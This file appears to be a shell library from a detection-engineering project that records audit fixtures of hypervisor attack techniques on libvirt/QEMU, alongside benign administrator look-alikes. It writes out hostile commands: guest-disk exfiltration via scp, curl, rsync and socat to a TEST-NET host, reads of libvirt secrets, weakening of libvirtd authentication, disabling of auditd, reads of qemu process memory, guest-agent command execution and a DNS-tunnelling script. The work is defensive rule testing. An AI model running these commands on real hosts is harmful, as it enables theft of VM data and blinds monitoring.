# Techniques and benign look-alikes recorded by scripts/record-hv-rule-fixtures.sh (sourced by it;
# read that script's header first). Every technique has two takes made with different tools or
# variants and, mostly, a different actor:
#
#   take a  (tuning)      what the rules were written and tuned on
#   take b  (evaluation)  another tool/variant, another actor: the figures in docs/ come from it
#
# and every family of techniques has benign look-alikes (take "benign"): libvirt doing its own
# work, root administrators using virsh, package upgrades touching qemu files, …, which must stay
# quiet. A scenario is the function a_NAME / b_NAME / n_FAMILY; prep_NAME (optional, not recorded)
# puts the host in the state the scenario needs, post_NAME (not recorded) puts it back.
#
# Actors (the login uid the scenario's session gets, and the uid it runs as):
#   root  root logged in (auid 0)          sudo  hvop logged in and became root (auid hvop, uid 0)
#   user  hvop, a libvirt-group member, unprivileged (setpriv --reuid hvop)   user2  the same, hvop2
#
# Network traffic goes only to 127.0.0.1 and 192.0.2.10 (TEST-NET-1, unreachable); netfilter,
# bridge, tap and sysctl changes happen inside the private network namespace $NETNS. DNS goes out
# of that namespace's veth hvfxdns0 (10.78.0.2/24, default route; nothing answers), and its
# resolv.conf (/etc/netns/$NETNS/resolv.conf) names the resolver 10.78.0.53: DNS_RESOLVER below.

# shellcheck shell=bash disable=SC2034  # the tables below are read by the recording script

# technique → area (the docs' grouping) and the actor of each take
declare -A AREA=(
  [vm_disk_read]=disk [disk_exfil]=disk [disk_mount]=disk [qemu_img_copy]=disk [virsh_disk_copy]=disk
  [ptrace_qemu]=memory [process_vm_readv]=memory [proc_mem]=memory [memory_dump]=memory
  [kvm_open]=devices [vfio_bind]=devices [qemu_ga_host]=devices
  [domain_xml_edit]=config [passthrough]=config [qemu_cmdline]=config [hook_script]=config [secret_read]=config [qemu_conf]=config
  [libvirt_sock]=access [group_grant]=access [polkit]=access [libvirtd_conf]=access
  [nft_vm]=network [iptables_vm]=network [tap_bridge]=network [promisc]=network [sysctl_forward]=network
  [snapshot_delete]=recovery [vm_destroy]=recovery [vm_undefine]=recovery
  [qemu_bin]=firmware [migrate]=migration [guest_exec]=agent [guest_file]=agent [monitor_cmd]=monitor
  [qemu_child_shell]=escape [qemu_child_binary]=escape [vnc_exposed]=escape
  [audit_disable]=tamper [audit_rules_removed]=tamper [hv_state]=tamper [kmod]=tamper
  [dns_tunnel]=dns
)
TECHNIQUES=(vm_disk_read disk_exfil disk_mount qemu_img_copy virsh_disk_copy ptrace_qemu process_vm_readv proc_mem
  memory_dump kvm_open vfio_bind qemu_ga_host domain_xml_edit passthrough qemu_cmdline hook_script secret_read qemu_conf
  libvirt_sock group_grant polkit libvirtd_conf nft_vm iptables_vm tap_bridge promisc sysctl_forward snapshot_delete
  vm_destroy vm_undefine qemu_bin migrate guest_exec guest_file monitor_cmd qemu_child_shell qemu_child_binary
  vnc_exposed audit_disable audit_rules_removed hv_state kmod dns_tunnel)
declare -A ACTOR_A=([libvirt_sock]=user [snapshot_delete]=user [vm_destroy]=user [vm_undefine]=user)
declare -A ACTOR_B=([libvirt_sock]=user2 [vm_destroy]=user2 [vm_undefine]=user2 [snapshot_delete]=root)
BENIGN=(disk memory devices config access network recovery firmware agent tamper escape dns)

IMG=/var/lib/libvirt/images/hvfx-vm1.qcow2      # the disk of the guest hvfx-vm1 (runs when a scenario needs it)
DATA=/var/lib/libvirt/images/hvfx-data.qcow2    # a guest disk not in use: the one that is stolen
as_user() { setpriv --reuid=hvop --regid=hvop --init-groups "$@"; }
as_user2() { setpriv --reuid=hvop2 --regid=hvop2 --init-groups "$@"; }
in_ns() { ip netns exec "$NETNS" "$@"; }
DNS_RESOLVER=10.78.0.53   # the namespace's configured resolver (test/detectors/hv-techniques.test.ts uses it too)
V() { virsh -q -c qemu:///system "$@"; }
qemu_idle() { qemu-system-x86_64 -machine none -nodefaults -display none -monitor none -serial none -S "$@" & QPID=$!; sleep 0.6; }
vm1_pid() { cat /run/libvirt/qemu/hvfx-vm1.pid; }
# the first readable mapping of a process: where a memory read starts
first_map() { awk 'NR==1 { split($1, a, "-"); print a[1] }' "/proc/$1/maps"; }

# ---------------------------------------------------------------------------------------------
# Guest disk images

a_vm_disk_read() { cat "$DATA" >/dev/null; dd if="$DATA" of="$WORK/head.bin" bs=64k count=1 status=none; }
b_vm_disk_read() {
  cp "$DATA" /tmp/hvfx-copy.qcow2
  python3 -c 'import mmap,sys; f=open(sys.argv[1],"rb"); m=mmap.mmap(f.fileno(),0,prot=mmap.PROT_READ); print(m[:4])' "$DATA"
  tar -cf "$WORK/img.tar" -C /var/lib/libvirt/images hvfx-data.qcow2
}
post_vm_disk_read() { rm -f /tmp/hvfx-copy.qcow2; }

a_disk_exfil() {
  timeout 3 scp -o BatchMode=yes -o ConnectTimeout=2 -o StrictHostKeyChecking=no "$DATA" root@192.0.2.10:/tmp/ || true
  timeout 3 curl -s -m 2 -T "$DATA" http://192.0.2.10/upload/ || true
}
b_disk_exfil() {
  timeout 3 rsync --timeout=2 "$DATA" rsync://192.0.2.10/loot/ || true
  timeout 3 socat -u "FILE:$DATA" TCP:192.0.2.10:9,connect-timeout=2 || true
}

a_disk_mount() { local d; d=$(losetup -f --show -r "$DATA"); losetup -d "$d"; }
b_disk_mount() { timeout 1 qemu-nbd --read-only --persistent --bind=127.0.0.1 --port=10809 -f qcow2 "$DATA" || true; }

a_qemu_img_copy() { qemu-img convert -O raw "$DATA" "$WORK/vm.raw"; }
b_qemu_img_copy() { qemu-img dd -f qcow2 -O raw bs=65536 count=16 if="$DATA" of="$WORK/vm-head.raw"; }

a_virsh_disk_copy() { V vol-download --pool hvfx-pool hvfx-data.qcow2 "$WORK/downloaded.qcow2"; }
prep_b_virsh_disk_copy() { vm1_running; }
b_virsh_disk_copy() { V backup-begin hvfx-vm1 || true; sleep 1; }
post_virsh_disk_copy() { V domjobabort hvfx-vm1 >/dev/null 2>&1; rm -f /var/lib/libvirt/images/hvfx-vm1.qcow2.*; }

# ---------------------------------------------------------------------------------------------
# Guest memory

a_ptrace_qemu() { qemu_idle; timeout 1 strace -f -p "$QPID" -o /dev/null || true; kill "$QPID"; wait "$QPID" 2>/dev/null || true; }
prep_b_ptrace_qemu() { vm1_running; }
b_ptrace_qemu() { gdb -q -batch -p "$(vm1_pid)" -ex 'info registers rip' >/dev/null 2>&1 || true; }

a_process_vm_readv() { qemu_idle; python3 "$WORK/vmread.py" "$QPID"; kill "$QPID"; wait "$QPID" 2>/dev/null || true; }
prep_b_process_vm_readv() { vm1_running; }
b_process_vm_readv() { python3 "$WORK/vmread.py" "$(vm1_pid)" write-back; }

a_proc_mem() {
  qemu_idle
  dd if="/proc/$QPID/mem" of="$WORK/qemu-mem.bin" bs=4096 count=1 iflag=skip_bytes skip=$((16#$(first_map "$QPID"))) status=none || true
  kill "$QPID"; wait "$QPID" 2>/dev/null || true
}
prep_b_proc_mem() { vm1_running; }
b_proc_mem() {
  local q; q=$(vm1_pid)
  python3 -c "f=open('/proc/$q/mem','rb'); f.seek(0x$(first_map "$q")); print(len(f.read(64)))" || true
}

prep_memory_dump() { vm1_running; }
a_memory_dump() { V dump hvfx-vm1 /var/lib/libvirt/qemu/dump/hvfx-a.core --memory-only; }
# (A dump-guest-memory sent to a running guest's monitor through qemu-monitor-command makes
# libvirtd 9.0 exit when qemu reports the dump done: the monitor variant goes to the test driver.)
b_memory_dump() {
  V dump --live hvfx-vm1 /var/lib/libvirt/qemu/dump/hvfx-b.core
  virsh -c test:///default qemu-monitor-command test '{"execute":"dump-guest-memory","arguments":{"paging":false,"protocol":"file:/tmp/hvfx-b.mem"}}' || true
}
post_memory_dump() { rm -f /var/lib/libvirt/qemu/dump/hvfx-a.core /var/lib/libvirt/qemu/dump/hvfx-b.core; }

# ---------------------------------------------------------------------------------------------
# Virtualization devices, guest agent

a_kvm_open() { dd if=/dev/kvm of=/dev/null count=1 status=none || true; }
b_kvm_open() { python3 -c 'import os; print("fd", os.open("/dev/kvm", os.O_RDWR))' || true; }

# A real device's driver_override (virtio-rng here) set to vfio-pci and cleared again: nothing is
# rebound (that happens only at the next probe); drivers_probe and nodedev-detach of a device that
# does not exist fail. The writes themselves are what is recorded.
a_vfio_bind() { echo vfio-pci > "/sys/bus/pci/devices/$PCIDEV/driver_override"; echo > "/sys/bus/pci/devices/$PCIDEV/driver_override"; }
b_vfio_bind() { echo 0000:00:1f.7 > /sys/bus/pci/drivers_probe || true; V nodedev-detach pci_0000_00_1f_7 || true; }

a_qemu_ga_host() {
  timeout 2 qemu-ga --method=unix-listen --path="$WORK/qga.sock" --statedir="$WORK" & local g=$!
  sleep 0.7; echo '{"execute":"guest-ping"}' | timeout 1 socat - "UNIX-CONNECT:$WORK/qga.sock" || true
  wait "$g" 2>/dev/null || true
}
b_qemu_ga_host() {
  qemu-ga -m unix-listen -p "$WORK/qga2.sock" -t "$WORK" -d -f "$WORK/qga.pid"
  sleep 0.7; echo '{"execute":"guest-info"}' | timeout 1 socat - "UNIX-CONNECT:$WORK/qga2.sock" >/dev/null || true
  kill "$(cat "$WORK/qga.pid")"
}

# ---------------------------------------------------------------------------------------------
# Libvirt configuration

a_domain_xml_edit() { sed -i 's|<vcpu placement=.static.>1</vcpu>|<vcpu placement="static">2</vcpu>|' /etc/libvirt/qemu/hvfx-vm2.xml; }
b_domain_xml_edit() {
  echo '<!-- hand edit -->' >> /etc/libvirt/qemu/hvfx-vm2.xml
  cp "$WORK/net-edited.xml" /etc/libvirt/qemu/networks/hvfx-net.xml
}
post_domain_xml_edit() { V define "$WORK/vm2.xml" >/dev/null; V net-define "$WORK/net.xml" >/dev/null; }

# Host filesystem passthrough (libvirt's VIRT_RESOURCE resrc=fs at start) / a host block device
# attached to a running guest (resrc=disk new-disk=/dev/loopN, reason=attach).
a_passthrough() { V define "$WORK/pt.xml"; V attach-device hvfx-pt "$WORK/fs.xml" --config; V start hvfx-pt; sleep 1; V destroy hvfx-pt; V undefine hvfx-pt; }
prep_b_passthrough() { vm1_running; }
b_passthrough() { V attach-disk hvfx-vm1 "$LOOPDEV" vdb --live; sleep 0.5; V detach-disk hvfx-vm1 vdb --live || true; }
post_passthrough() { V destroy hvfx-pt >/dev/null 2>&1; V undefine hvfx-pt >/dev/null 2>&1; }

# qemu:commandline: arguments libvirt passes to qemu unchecked, after its own (-msg timestamp=on).
a_qemu_cmdline() { V define "$WORK/cmdline-a.xml"; V start hvfx-cmd; sleep 1; V destroy hvfx-cmd; V undefine hvfx-cmd; }
b_qemu_cmdline() { V define "$WORK/cmdline-b.xml"; V start hvfx-cmd; sleep 1; V destroy hvfx-cmd; V undefine hvfx-cmd; }
post_qemu_cmdline() { V destroy hvfx-cmd >/dev/null 2>&1; V undefine hvfx-cmd >/dev/null 2>&1; rm -f /tmp/hvfx-leak.txt; }

a_hook_script() { printf '#!/bin/sh\nexit 0\n' > /etc/libvirt/hooks/qemu; chmod 755 /etc/libvirt/hooks/qemu; }
b_hook_script() { cp "$WORK/hook.sh" /etc/libvirt/hooks/network; install -m 755 "$WORK/hook.sh" /etc/libvirt/hooks/lxc; }
post_hook_script() { rm -f /etc/libvirt/hooks/qemu /etc/libvirt/hooks/network /etc/libvirt/hooks/lxc; }

a_secret_read() { cat /etc/libvirt/secrets/*.base64; }
b_secret_read() {
  V secret-get-value "$(cat "$WORK/secret.uuid")"
  python3 -c 'import glob; print([len(open(f).read()) for f in glob.glob("/etc/libvirt/secrets/*.base64")])'
}

a_qemu_conf() { sed -i 's|^#security_driver = "selinux"|security_driver = "none"|' /etc/libvirt/qemu.conf; }
b_qemu_conf() { echo 'user = "root"' >> /etc/libvirt/qemu.conf; perl -pi -e 's/^#dynamic_ownership = 1/dynamic_ownership = 0/' /etc/libvirt/qemu.conf; }
post_qemu_conf() { cat "$WORK/qemu.conf.orig" > /etc/libvirt/qemu.conf; }

# ---------------------------------------------------------------------------------------------
# Access to libvirt

a_libvirt_sock() { as_user virsh -c qemu:///system list --all || true; }
b_libvirt_sock() {
  as_user2 virsh -r -c qemu:///system list --all || true
  as_user2 python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect("/run/libvirt/libvirt-sock-ro"); print("connected")' || true
}

prep_group_grant() { id hvfxnew >/dev/null 2>&1 || useradd -M -s /usr/sbin/nologin hvfxnew; }
a_group_grant() { usermod -aG libvirt hvfxnew; }
b_group_grant() { gpasswd -a hvfxnew libvirt; adduser hvfxnew kvm; }
post_group_grant() { gpasswd -d hvfxnew libvirt >/dev/null 2>&1; gpasswd -d hvfxnew kvm >/dev/null 2>&1; }

a_polkit() { tee /etc/polkit-1/rules.d/49-hvfx.rules < "$WORK/polkit.rules" >/dev/null; }
b_polkit() { mkdir -p /etc/polkit-1/localauthority/50-local.d; cp "$WORK/hvfx.pkla" /etc/polkit-1/localauthority/50-local.d/hvfx.pkla; }
post_polkit() { rm -f /etc/polkit-1/rules.d/49-hvfx.rules /etc/polkit-1/localauthority/50-local.d/hvfx.pkla; }

a_libvirtd_conf() { sed -i 's|^#auth_unix_rw = "polkit"|auth_unix_rw = "none"|' /etc/libvirt/libvirtd.conf; }
b_libvirtd_conf() { echo 'listen_tcp = 1' >> /etc/libvirt/libvirtd.conf; perl -pi -e 's/^#unix_sock_rw_perms = "0770"/unix_sock_rw_perms = "0777"/' /etc/libvirt/libvirtd.conf; }
post_libvirtd_conf() { cat "$WORK/libvirtd.conf.orig" > /etc/libvirt/libvirtd.conf; }

# ---------------------------------------------------------------------------------------------
# VM network isolation (inside the private namespace)

a_nft_vm() {
  in_ns nft add table inet hv
  in_ns nft add chain inet hv quarantine '{ type filter hook forward priority 0; policy accept; }'
  in_ns nft add rule inet hv quarantine iifname "vnet0" drop
  in_ns nft flush chain inet hv quarantine
  in_ns nft delete table inet hv
}
b_nft_vm() { in_ns nft -f "$WORK/libvirt.nft"; in_ns nft delete table ip libvirt_network; }

a_iptables_vm() {
  in_ns iptables -N LIBVIRT_FWI
  in_ns iptables -I LIBVIRT_FWI 1 -o virbr0 -j ACCEPT
  in_ns iptables -F LIBVIRT_FWI
  in_ns iptables -X LIBVIRT_FWI
}
b_iptables_vm() {
  in_ns ip6tables -N LIBVIRT_FWO
  in_ns ip6tables -A LIBVIRT_FWO -i virbr1 -j REJECT
  in_ns ip6tables -F LIBVIRT_FWO
  in_ns ip6tables -X LIBVIRT_FWO
}

a_tap_bridge() {
  in_ns ip tuntap add dev hvfxtap9 mode tap
  in_ns ip link add hvfxbr9 type bridge
  in_ns ip link set hvfxtap9 master hvfxbr9
  in_ns ip link del hvfxtap9
  in_ns ip link del hvfxbr9
}
b_tap_bridge() {
  in_ns ip link add hvfxv0 type veth peer name hvfxv1
  in_ns ip link add hvfxbr7 type bridge
  in_ns ip link set hvfxv0 master hvfxbr7
  in_ns ip link del hvfxv0
  in_ns ip link del hvfxbr7
}

a_promisc() { in_ns ip link add hvfxbr8 type bridge; in_ns ip link set hvfxbr8 promisc on; in_ns ip link set hvfxbr8 promisc off; in_ns ip link del hvfxbr8; }
b_promisc() {
  in_ns ip link add hvfxbr6 type bridge; in_ns ip link set hvfxbr6 up
  in_ns timeout 1 tcpdump -i hvfxbr6 -c 1 -w /dev/null 2>/dev/null || true
  in_ns ip link del hvfxbr6
}

a_sysctl_forward() { in_ns sysctl -w net.ipv4.ip_forward=1; in_ns sysctl -w net.ipv4.conf.all.rp_filter=0; in_ns sysctl -w net.ipv4.ip_forward=0; }
b_sysctl_forward() { in_ns sysctl -w net.ipv6.conf.all.forwarding=1; in_ns sysctl -w net.ipv4.conf.all.proxy_arp=1; in_ns sysctl -w net.ipv6.conf.all.forwarding=0; }

# ---------------------------------------------------------------------------------------------
# Inhibiting recovery (by non-root libvirt-group members; root's own doings are benign look-alikes)

prep_a_snapshot_delete() { V snapshot-create-as hvfx-vm2 hvfx-s1 >/dev/null; }
a_snapshot_delete() { as_user virsh -c qemu:///system snapshot-delete hvfx-vm2 hvfx-s1 || true; }
prep_b_snapshot_delete() { qemu-img snapshot -c hvfx-s2 "$DATA"; }
b_snapshot_delete() { qemu-img snapshot -d hvfx-s2 "$DATA"; }
post_snapshot_delete() { V snapshot-delete hvfx-vm2 hvfx-s1 >/dev/null 2>&1; qemu-img snapshot -d hvfx-s2 "$DATA" >/dev/null 2>&1; }

prep_vm_destroy() { vm1_running; }
a_vm_destroy() { as_user virsh -c qemu:///system destroy hvfx-vm1 || true; }
b_vm_destroy() { as_user2 virsh -c qemu:///system reset hvfx-vm1 || true; as_user2 virsh -c qemu:///system destroy --graceful hvfx-vm1 || true; }

prep_a_vm_undefine() { V define "$WORK/tmp.xml" >/dev/null; }
a_vm_undefine() { as_user virsh -c qemu:///system undefine hvfx-tmp || true; }
prep_b_vm_undefine() { V vol-create-as hvfx-pool hvfx-junk.qcow2 16M --format qcow2 >/dev/null; }
b_vm_undefine() { as_user2 virsh -c qemu:///system vol-delete --pool hvfx-pool hvfx-junk.qcow2 || true; }
post_vm_undefine() { V undefine hvfx-tmp >/dev/null 2>&1; V vol-delete --pool hvfx-pool hvfx-junk.qcow2 >/dev/null 2>&1; }

# ---------------------------------------------------------------------------------------------
# Firmware and binaries (identical bytes: nothing is really replaced)

a_qemu_bin() {
  cp -p /usr/bin/qemu-system-x86_64 "$WORK/qemu-system-x86_64.orig"
  cp "$WORK/qemu-system-x86_64.orig" /usr/bin/qemu-system-x86_64
  cmp "$WORK/qemu-system-x86_64.orig" /usr/bin/qemu-system-x86_64
}
b_qemu_bin() {
  install -m 644 "$WORK/fake-OVMF_VARS.fd" /usr/share/qemu/hvfx-OVMF_VARS.fd
  touch /usr/share/seabios/hvfx-bios.bin
  rm -f /usr/share/qemu/hvfx-OVMF_VARS.fd /usr/share/seabios/hvfx-bios.bin
}

# ---------------------------------------------------------------------------------------------
# Migration, guest agent, QEMU monitor (the test driver and guests without an agent: the virsh
# commands are real and fail, which is what an attacker's attempt looks like from the host)

a_migrate() { virsh -c test:///default migrate --live test qemu+tcp://192.0.2.10/system || true; }
b_migrate() { virsh -c test:///default qemu-monitor-command test '{"execute":"migrate","arguments":{"uri":"exec:cat > /tmp/hvfx-vm.state"}}' || true; }

a_guest_exec() { virsh -c test:///default qemu-agent-command test '{"execute":"guest-exec","arguments":{"path":"/bin/sh","arg":["-c","id"],"capture-output":true}}' || true; }
prep_b_guest_exec() { vm1_running; }
b_guest_exec() { V qemu-agent-command hvfx-vm1 '{"execute":"guest-exec","arguments":{"path":"/usr/bin/id"}}' --timeout 2 || true; }

a_guest_file() { virsh -c test:///default qemu-agent-command test '{"execute":"guest-file-open","arguments":{"path":"/etc/shadow","mode":"r"}}' || true; }
prep_b_guest_file() { vm1_running; }
b_guest_file() { V set-user-password hvfx-vm1 root 'hunter2' || true; }

prep_monitor_cmd() { vm1_running; }
a_monitor_cmd() { V qemu-monitor-command hvfx-vm1 '{"execute":"query-status"}'; }
b_monitor_cmd() {
  local sock; sock=$(ls -d /var/lib/libvirt/qemu/domain-*-hvfx-vm1)/monitor.sock
  echo '{"execute":"qmp_capabilities"}' | timeout 1 socat - "UNIX-CONNECT:$sock" || true
}

# ---------------------------------------------------------------------------------------------
# Signs of a VM escape: qemu starting programs, exposed consoles

# qemu runs a tap device's ifup "script" itself: the way code lands in the emulator's place.
qemu_tap_script() { # IFNAME SCRIPT
  timeout 2 qemu-system-x86_64 -machine none -nodefaults -display none -monitor none -netdev "tap,id=n0,ifname=$1,script=$2,downscript=no" || true
}
a_qemu_child_shell() { qemu_tap_script hvfxtap0 "$WORK/ifup.sh"; }
b_qemu_child_shell() { qemu_tap_script hvfxtap2 "$WORK/ifup.bash"; }
a_qemu_child_binary() { qemu_tap_script hvfxtap1 /usr/bin/id; }
b_qemu_child_binary() { qemu_tap_script hvfxtap3 /usr/bin/env; }
a_vnc_exposed() {
  timeout 1 qemu-system-x86_64 -machine none -nodefaults -monitor none -vnc 0.0.0.0:77 || true
  timeout 1 qemu-system-x86_64 -machine none -nodefaults -monitor none -vnc 127.0.0.1:78 || true
}
b_vnc_exposed() { timeout 1 qemu-system-x86_64 -machine none -nodefaults -monitor none -display none -vnc :79 || true; }

# ---------------------------------------------------------------------------------------------
# Blinding the monitor; kernel modules

a_audit_disable() { auditctl -e 0; auditctl -e 1; }
b_audit_disable() { auditctl -e 0 >/dev/null; sleep 0.2; auditctl -e 1 >/dev/null; }
a_audit_rules_removed() { auditctl -D; }
# The first loaded rule removed by its delete form (-w → -W, -a → -d), as someone would target one rule.
b_audit_rules_removed() {
  local first; first=$(auditctl -l | head -1)
  if [[ $first == -w* ]]; then first="-W${first:2}"; else first="-d${first:2}"; fi
  # shellcheck disable=SC2086 # the words of the rule
  auditctl $first
}

a_hv_state() {
  echo 'title: x' > /var/lib/hv/hvfx-rule.yml
  sqlite3 /var/lib/hv/hvfx.db 'create table alerts(id integer); delete from alerts;'
  rm -f /var/lib/hv/hvfx-rule.yml /var/lib/hv/hvfx.db
}
b_hv_state() { cp "$WORK/hv.yaml" /etc/hv/hvfx.yaml; sed -i 's/enabled: true/enabled: false/' /etc/hv/hvfx.yaml; rm -f /etc/hv/hvfx.yaml; }

# This kernel has no module support: init/finit/delete_module fail with ENOSYS, and are audited.
a_kmod() { insmod "$WORK/hv_fixture.ko" || true; rmmod vhost_net || true; }
b_kmod() { modprobe kvm_intel || true; python3 "$WORK/finit.py" "$WORK/hv_fixture.ko" || true; }

# ---------------------------------------------------------------------------------------------
# Benign look-alikes, by family: an administrator (hvadmin, logged in, using sudo) and libvirt doing
# ordinary work that touches the same objects.

n_disk() {
  V start hvfx-vm2; sleep 1                              # qemu and libvirt open the guest's disk
  qemu-img info "$DATA" >/dev/null; qemu-img check "$DATA" >/dev/null
  qemu-img create -q -f qcow2 /var/lib/libvirt/images/hvfx-new.qcow2 16M; rm -f /var/lib/libvirt/images/hvfx-new.qcow2
  ls -l /var/lib/libvirt/images >/dev/null; du -sh /var/lib/libvirt/images >/dev/null; stat "$DATA" >/dev/null
  V vol-list hvfx-pool >/dev/null; V domblklist hvfx-vm2 >/dev/null; V vol-info --pool hvfx-pool hvfx-data.qcow2 >/dev/null
  V destroy hvfx-vm2
}
n_memory() {
  vm1_running
  V dominfo hvfx-vm1 >/dev/null; V domstats hvfx-vm1 >/dev/null; V dommemstat hvfx-vm1 >/dev/null || true
  cat "/proc/$(vm1_pid)/status" >/dev/null; ps -o pid,rss,vsz -p "$(vm1_pid)" >/dev/null
}
n_devices() {
  ls -l /dev/kvm /dev/net/tun >/dev/null; V nodedev-list >/dev/null; V nodeinfo >/dev/null
  cat "/sys/bus/pci/devices/$PCIDEV/driver_override" >/dev/null; V capabilities >/dev/null
}
n_config() {
  V define "$WORK/vm2.xml" >/dev/null; V dumpxml hvfx-vm2 >/dev/null; V net-dumpxml hvfx-net >/dev/null
  cat /etc/libvirt/qemu/hvfx-vm2.xml >/dev/null; cp /etc/libvirt/qemu/hvfx-vm2.xml /root/hvfx-vm2.xml.bak; rm -f /root/hvfx-vm2.xml.bak
  grep -v '^#' /etc/libvirt/qemu.conf | grep -v '^$' >/dev/null || true; head -n 20 /etc/libvirt/libvirtd.conf >/dev/null
  ls -l /etc/libvirt/hooks /etc/libvirt/secrets >/dev/null; V secret-list >/dev/null
}
n_access() {
  V list --all >/dev/null; virsh -r -c qemu:///system list >/dev/null; getent group libvirt >/dev/null; id hvop >/dev/null
  groups >/dev/null; ls -l /run/libvirt/libvirt-sock >/dev/null
}
n_network() {
  V net-start hvfx-net; sleep 1; V net-destroy hvfx-net         # libvirt's own bridge, firewall and dnsmasq
  nft list ruleset >/dev/null; iptables -S >/dev/null; sysctl net.ipv4.ip_forward >/dev/null
  ip -br link >/dev/null; ip route >/dev/null
}
n_recovery() {
  V snapshot-create-as hvfx-vm2 hvfx-daily >/dev/null; V snapshot-list hvfx-vm2 >/dev/null; V snapshot-delete hvfx-vm2 hvfx-daily
  vm1_running; V destroy hvfx-vm1
  V define "$WORK/tmp.xml" >/dev/null; V undefine hvfx-tmp
  qemu-img snapshot -l "$DATA" >/dev/null
}
# A package upgrade of SeaBIOS (the same version, from the apt cache): dpkg replaces qemu's firmware.
n_firmware() { dpkg -i /var/cache/apt/archives/seabios_*_all.deb >/dev/null; }
n_agent() { virsh -c test:///default qemu-agent-command test '{"execute":"guest-ping"}' >/dev/null 2>&1 || true; V domjobinfo hvfx-vm2 >/dev/null || true; }
n_tamper() {
  auditctl -l >/dev/null; auditctl -s >/dev/null
  node "$ROOT/bin/hv.js" monitor --replay "$ROOT/test/fixtures/audit/real-execve.log" --state-dir /var/lib/hv/hvfx-state --no-libvirt --json >/dev/null 2>&1 || true
  lsmod >/dev/null 2>&1 || true; modprobe -n vhost_net >/dev/null 2>&1 || true
}
post_n_tamper() { rm -rf /var/lib/hv/hvfx-state; }
n_escape() { qemu-system-x86_64 --version >/dev/null; qemu-system-x86_64 -machine help >/dev/null; V start hvfx-vm2; sleep 1; V destroy hvfx-vm2; }

# ---------------------------------------------------------------------------------------------
# DNS tunnelling / exfiltration straight to a resolver that is not the configured one (the
# namespace's resolv.conf names $DNS_RESOLVER; nothing answers: the queries leave and are lost).

# A script: one connected UDP socket, 40 TXT queries whose names carry 189 bytes of base32 data
# each (three 63-byte labels), as a tunnel client does.
a_dns_tunnel() {
  in_ns python3 - 10.78.0.99 <<'PY'
import base64, os, socket, struct, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect((sys.argv[1], 53))
for i in range(40):
    data = base64.b32encode(os.urandom(120)).decode().rstrip("=").lower()[:189]
    labels = [data[j:j + 63] for j in range(0, len(data), 63)] + ["t", "hvfx", "example"]
    qname = b"".join(bytes([len(l)]) + l.encode() for l in labels) + b"\0"
    try: s.send(struct.pack(">HHHHHH", i, 0x0100, 1, 0, 0, 0) + qname + struct.pack(">HH", 16, 1))
    except OSError: pass   # an ICMP "port unreachable" from an earlier query
print("sent", i + 1)
PY
}
# Tools: dig and ncat at a documentation-range address, long data-carrying names.
b_dns_tunnel() {
  local i label
  for i in 1 2 3 4 5 6; do
    label=$(head -c 45 /dev/urandom | base32 -w0 | tr -d = | tr 'A-Z' 'a-z' | cut -c1-63)
    in_ns dig @198.51.100.53 +tries=1 +time=1 +retry=0 "$label.$i.x.hvfx.example" TXT >/dev/null || true
  done
  head -c 600 /dev/urandom | in_ns timeout 2 ncat -u 198.51.100.53 53 || true
}
# Ordinary lookups through the configured resolver (glibc, Python, host, dig without @), and a
# query to a local stub resolver (systemd-resolved's 127.0.0.53; nothing listens here).
n_dns() {
  in_ns getent ahosts www.hvfx.example >/dev/null || true
  in_ns python3 -c 'import socket
try: socket.getaddrinfo("mirror.hvfx.example", 443)
except OSError as e: print(e)' || true
  in_ns host -W 1 deb.hvfx.example >/dev/null || true
  in_ns dig +tries=1 +time=1 +retry=0 hvfx.example >/dev/null || true
  dig @127.0.0.53 +tries=1 +time=1 +retry=0 hvfx.example >/dev/null || true
}

vm1_running() {
  [[ $(V domstate hvfx-vm1 2>/dev/null) == running ]] && return 0
  V start hvfx-vm1 >/dev/null
  for _ in $(seq 50); do [[ -s /run/libvirt/qemu/hvfx-vm1.pid ]] && break; sleep 0.1; done
  sleep 1
}
